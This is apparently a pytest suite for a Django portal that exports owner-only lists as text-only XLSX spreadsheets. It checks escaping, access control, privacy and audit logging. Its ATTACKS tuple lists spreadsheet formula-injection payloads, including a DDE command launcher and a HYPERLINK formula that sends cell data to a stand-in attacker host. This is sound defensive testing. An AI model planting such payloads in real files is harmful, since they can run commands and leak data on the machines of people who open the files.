"""Lists that an owner takes along: spreadsheets whose every cell is text, for owners only, without visitors' words."""

import io
import re
import zipfile
from datetime import date, timedelta
from xml.etree import ElementTree

import pytest
from django.utils import timezone

from clinic import sheets
from clinic.models import Record
from clinic.record import record
from clinic.sheets import Sheet, written
from comments import data_rights
from comments.models import Report, RetentionDay
from portal.lists import LISTS
from search.models import Miss
from tests.comment_factories import make_comment
from tests.factories import make_article

PAGE = "/admin/lists/"
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"here")',
    "+1+1",
    "-1-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "{=1+1}",
    "=1+1\x00",
    "\x01=1\x1f",
    "https://evil.example/",
    "mailto:a@example.org",
    "external:\\\\evil\\share",
    "internal:Sheet1!A1",
    "</t></si><f>1+1</f>",
    "_x000D_=1",
    "\ud800 half",
    "00123",
    "1e9",
    "TRUE",
    "x" * 40_000,
)


def cells(data: bytes, number: int = 1) -> list[list[str]]:
    """The words of a sheet, read as the format says; a cell that is anything but a text fails."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        words = ["".join(one.itertext()) for one in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))]
        page = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{number}.xml"))
        formats = ElementTree.fromstring(book.read("xl/styles.xml")).find(f"{SPACE}cellXfs")
    found = []
    for row in page.iter(f"{SPACE}row"):
        for cell in row:
            assert (cell.get("t"), [part.tag for part in cell]) == ("s", [f"{SPACE}v"])
            assert formats[int(cell.get("s"))].get("numFmtId") == "49"  # “text”, in every spreadsheet
        found.append([words[int(cell[0].text)] for cell in row])
    return found


def test_whatever_a_cell_holds_it_is_text_and_nothing_computes_calls_or_links():
    data = written([Sheet("Attacks", ["=1+1"], [[value, value] for value in ATTACKS])])
    rows = cells(data)
    assert rows[0] == ["=1+1"]
    assert rows[1][0] == "=cmd|' /C calc'!A0"
    assert len(rows) == len(ATTACKS) + 1
    assert max(len(row[0]) for row in rows) == sheets.LONGEST
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert not [
            name for name in book.namelist() if re.search(r"vba|external|embed|connection|hyperlink", name, re.I)
        ]
        for name in book.namelist():
            inside = book.read(name)
            ElementTree.fromstring(inside)  # every part is whole XML
            assert not re.search(rb"<f>|<f |<hyperlink|TargetMode|<ddeLink", inside), name


def test_moments_days_numbers_and_nothing_are_words():
    now = timezone.now()
    rows = cells(written([Sheet("A", ["a"], [[now, date(2026, 11, 27), 5, None, True]])]))
    assert rows[1] == [f"{timezone.localtime(now):%Y-%m-%d %H:%M}", "2026-11-27", "5", "", "True"]


@pytest.mark.parametrize("title", ["", "[=1]:*?/\\'", "x" * 99, "\x00"])
def test_any_title_makes_a_sheet(title):
    assert cells(written([Sheet(title, ["a"], []), Sheet("B", ["b"], [])]), 2) == [["b"]]


def test_a_list_that_is_too_long_says_that_it_ends(monkeypatch):
    monkeypatch.setattr(sheets, "MOST_ROWS", 3)
    whole, cut = (cells(written([Sheet("A", ["a"], ([n] for n in range(number)))])) for number in (3, 4))
    assert [row[0] for row in whole] == ["a", "0", "1", "2"]
    assert [row[0] for row in cut] == ["a", "0", "1", "2", "The list goes on: this file ends here."]


@pytest.fixture
def filled(people):
    comment = make_comment(article=make_article(), text="Words of a visitor", name="Visitor")
    Report.objects.create(comment=comment, why="unkind", text="Words of a reader", handled_note="Note on somebody")
    Miss.objects.create(digest="x", text="=cost", days=6, last_day="2026-11-22")
    Miss.objects.create(digest="hidden", text="", days=1, last_day="2026-11-22")
    RetentionDay.objects.create(day="2026-11-26", at=timezone.now() - timedelta(days=1), words=4)
    record(people["owner"], data_rights.FOUND)


@pytest.mark.django_db
@pytest.mark.parametrize("name", LISTS)
def test_an_owner_takes_each_list_along_and_it_is_recorded(filled, owner, name):
    answer = owner.post(PAGE, {"list": name})
    assert answer.status_code == 200
    assert answer["Content-Type"] == sheets.KIND
    assert answer["Content-Disposition"] == f'attachment; filename="{name}-{timezone.localdate()}.xlsx"'
    assert "no-store" in answer["Cache-Control"]
    rows = cells(answer.content)
    assert len(rows) > 1
    words = " ".join(cell for row in rows for cell in row)
    for hidden in ("Words of a visitor", "Words of a reader", "Note on somebody", "Visitor"):
        assert hidden not in words
    assert Record.objects.filter(action="take a list along", note=name).count() == 1


@pytest.mark.django_db
def test_each_list_holds_what_its_line_says(filled, owner):
    found = {name: cells(owner.post(PAGE, {"list": name}).content) for name in LISTS}
    month = f"{timezone.localdate():%Y-%m}"
    assert [month, "Decisions", "taken back", "0"] in found["decisions"]
    assert any(row[1] == "Rejected, by reason" for row in found["decisions"])
    assert found["reports"][1][1:] == ["It attacks or insults somebody", "normal", "", ""]
    assert found["register"][1][1:3] == ["looked up", "Owner"]
    assert found["searches"][1:] == [["=cost", "6", "2026-11-22"]]
    assert all(row[0] and row[1] and row[2].isdigit() for row in found["numbers"][1:])
    days = cells(owner.post(PAGE, {"list": "register"}).content, 2)
    assert [days[1][0], *days[1][2:]] == ["2026-11-26", "4", "0", "0"]


@pytest.mark.django_db
def test_only_owners_see_the_page_and_take_lists(filled, owner, editor, clinician, moderator, reader):
    assert owner.get(PAGE).content.decode().count('name="list"') == len(LISTS)
    assert PAGE in owner.get("/admin/").content.decode()
    for client in (editor, clinician, moderator):
        assert client.get(PAGE).status_code == 403
        assert client.post(PAGE, {"list": "register"}).status_code == 403
        assert PAGE not in client.get("/admin/").content.decode()
    assert reader.get(PAGE).status_code == 302
    assert reader.post(PAGE, {"list": "register"}).status_code == 302
    assert not Record.objects.filter(action="take a list along").exists()


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["", "nothing", "../decisions", "=1"])
def test_a_list_that_there_is_not_is_not_found(owner, name):
    assert owner.post(PAGE, {"list": name}).status_code == 404
    assert owner.put(PAGE).status_code == 405


@pytest.mark.django_db
@pytest.mark.parametrize("rows", [1, 40])
def test_a_list_takes_as_many_queries_for_many_rows_as_for_one(owner, django_assert_max_num_queries, rows):
    comment = make_comment(article=make_article())
    Report.objects.bulk_create(Report(comment=comment, why="unkind") for _each in range(rows))
    with django_assert_max_num_queries(15):
        assert len(cells(owner.post(PAGE, {"list": "reports"}).content)) == rows + 1
